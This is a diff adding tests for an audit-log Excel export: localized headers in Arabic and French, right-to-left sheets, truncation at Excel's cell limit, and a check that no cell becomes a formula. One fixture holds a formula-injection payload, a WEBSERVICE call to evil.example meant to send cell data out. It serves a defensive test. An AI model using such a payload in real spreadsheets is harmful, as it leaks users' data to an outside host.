@@ -9,6 +9,8 @@ import { cli, makeServices, storeSnapshot, tempDir } from './helpers';
 import { answer, save } from './merge-helpers';
 import { emptyNote } from '../shared/note';
 import { textToDoc } from '../shared/plaintext';
+import { unpack } from './bundle-tools';
+import { officeConvertAll } from './office';
 
 async function draft() {
   const s = makeServices();
@@ -135,6 +137,11 @@ describe('audit log', () => {
     expect(col(submit, 'why')).toBe('pour validation');
     const times = rows.slice(1).map((x) => col(x, 'when')!);
     expect(times).toEqual([...times].sort()); // oldest first
+    // the same as an Excel workbook, headers in the language asked for; a language it does not have is refused by name
+    const book = path.join(tempDir(), 'audit.xlsx');
+    expect(await cli(db, 'audit', id, '--xlsx', book, '--language', 'ar')).toMatchObject({ code: 0, out: `${rows.length - 1} entries written to ${book}` });
+    expect((await unpack(book)).find((i) => i.name === 'xl/sharedStrings.xml')!.data.toString('utf8')).toContain('<t>قبل</t>');
+    expect((await cli(db, 'audit', id, '--xlsx', path.join(tempDir(), 'x.xlsx'), '--language', 'de')).err).toMatch(/^error: .*language: Invalid option/);
     // an existing file is not overwritten
     const again = await cli(db, 'audit', id, '--csv', out);
     expect(again.code).toBe(1);
@@ -242,5 +249,38 @@ describe('CLI', () => {
     expect(exported.out).toMatch(/w\.gcmr\t[0-9a-f-]{36}\t\d+ contributions$/);
     const missing = await cli(db, 'contribution', 'add', w, '--question', 'I.e');
     expect(missing).toMatchObject({ code: 1, err: 'error: give exactly one of --text or --file' });
+  });
+
+  it('the audit trail as an Excel workbook: every cell text (no formula), headers in the language, right to left in Arabic, a cell cut at Excel’s limit; as LibreOffice reads it', { timeout: 180_000 }, async () => {
+    const { s, id } = await draft();
+    const hostile = '- WEBSERVICE("https://evil.example/?"&A2)';
+    await save(s, id, 'I.a', answer(hostile));
+    await save(s, id, 'I.b', answer('وزارة الداخلية'));
+    await save(s, id, 'I.c', answer('x'.repeat(40_000)));
+    const dir = tempDir();
+    const files: Record<string, string> = {};
+    for (const language of ['ar', 'fr'] as const) {
+      const r = await invoke(s.handlers, 'auditWorkbook', { draftId: id, language });
+      expect(r.rows).toBe(4); // the draft made, three answers
+      files[language] = path.join(dir, `audit-${language}.xlsx`);
+      fs.writeFileSync(files[language], Buffer.from(r.base64, 'base64'));
+      const sheet = (await unpack(files[language])).find((i) => i.name === 'xl/worksheets/sheet1.xml')!.data.toString('utf8');
+      expect(sheet.includes('rightToLeft="1"')).toBe(language === 'ar');
+      expect(sheet).not.toMatch(/<f[ >]/); // no formula anywhere
+    }
+    // what Excel's peer reads: LibreOffice's own CSV of each workbook (UTF-8, comma)
+    const [ar, fr] = officeConvertAll([files.ar!, files.fr!], 'csv:Text - txt - csv (StarCalc):44,34,76,1', 170_000).map((f) => parseCsv(fs.readFileSync(f, 'utf8')));
+    expect(ar![0]).toEqual(['متى', 'من', 'الجهة', 'التثبيت', 'الإجراء', 'السؤال أو العنصر', 'قبل', 'بعد', 'السبب', 'حتى', 'المراجعات']);
+    expect(fr![0]![6]).toBe('Avant');
+    const col = (rows: string[][], field: string, name: (typeof AUDIT_COLUMNS)[number]) => rows.find((r) => r[AUDIT_COLUMNS.indexOf('target')] === field)![AUDIT_COLUMNS.indexOf(name)]!;
+    // text as it is, no apostrophe: a cell of text is never run
+    expect(col(ar!, 'I.a', 'new')).toBe(hostile);
+    expect(ar!.some((r) => r.includes('وزارة الداخلية'))).toBe(true);
+    // 40,000 characters: cut at Excel's 32,767, saying so in the language; the CSV keeps the whole
+    const long = col(fr!, 'I.c', 'new');
+    expect(long).toHaveLength(32_767);
+    expect(long.endsWith(' […] (coupé\u00a0: 40000\u00a0caractères en tout\u00a0; le CSV contient le texte entier)')).toBe(true);
+    const csvRows = parseCsv((await invoke(s.handlers, 'auditCsv', { draftId: id })).csv);
+    expect(col(csvRows, 'I.c', 'new')).toHaveLength(40_000);
   });
 });
